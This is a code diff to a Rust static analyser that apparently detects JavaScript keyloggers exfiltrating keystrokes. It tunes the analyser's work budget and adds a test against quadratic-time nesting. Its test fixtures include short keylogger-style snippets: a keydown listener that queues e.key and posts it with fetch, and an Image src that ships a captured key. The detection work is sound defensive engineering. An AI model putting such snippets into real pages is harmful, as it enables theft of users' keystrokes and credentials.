@@ -18,8 +18,9 @@ use std::collections::HashMap;
 /// real corpus were flagged through such links.
 pub const MAX_BYTES: usize = 16 * 1024;
 /// Token visits allowed for collecting regions (nested regions revisit tokens): bounds the time
-/// a hostile script of [`MAX_BYTES`] can cost, about 25 times its token count.
-const BUDGET: usize = 1_500_000;
+/// a hostile script of [`MAX_BYTES`] can cost (a few milliseconds), about 50 times the tokens
+/// of such a script; hand-written loggers use a few thousand.
+const BUDGET: usize = 400_000;
 /// How many tokens around a request the pass looks for its answer being read.
 const ANSWER_WINDOW: usize = 40;
 /// Rounds of propagation; marks only grow, so this bounds a chain of that many hops.
@@ -1053,13 +1054,13 @@ impl<'a> Pass<'a> {
         let Some(p) = i.checked_sub(1) else {
             return;
         };
-        let (start, lo, hi) = if self.punct(p, b")") {
+        let start = if self.punct(p, b")") {
             match self.mate(p) {
-                Some(o) => (o, o + 1, p),
+                Some(o) => o,
                 None => return,
             }
         } else if self.is_ident(p) {
-            (p, p, p + 1)
+            p
         } else {
             return;
         };
@@ -1071,7 +1072,6 @@ impl<'a> Pass<'a> {
         let Some(lit) = self.literal(start) else {
             return;
         };
-        debug_assert_eq!(lit.params, (lo, hi));
         self.declare(lit.params.0, lit.params.1);
         // The parameter list's own parenthesis is closed by now: `parens` ends with the call
         // the arrow is an argument of, if any.
@@ -1304,6 +1304,18 @@ mod tests {
         assert_eq!(shipped(&image), KEY);
         let named = video.replace("player.src", "var i = new Image(); i.src");
         assert_eq!(shipped(&named), KEY);
+    }
+
+    #[test]
+    fn nesting_that_would_cost_quadratic_time_runs_out_of_budget() {
+        // 2,600 nested calls: each collects its arguments, millions of token visits unbounded.
+        let src = format!("g({}e.key{})", "f(".repeat(2600), ")".repeat(2600));
+        assert!(src.len() <= MAX_BYTES);
+        let f = analyse(src.as_bytes());
+        assert!(f.analysed && f.exhausted);
+        // An ordinary small script stays well inside it.
+        let ok = "document.addEventListener('keydown', e => q.push(e.key)); fetch(u, {body: q})";
+        assert!(!analyse(ok.as_bytes()).exhausted);
     }
 
     #[test]
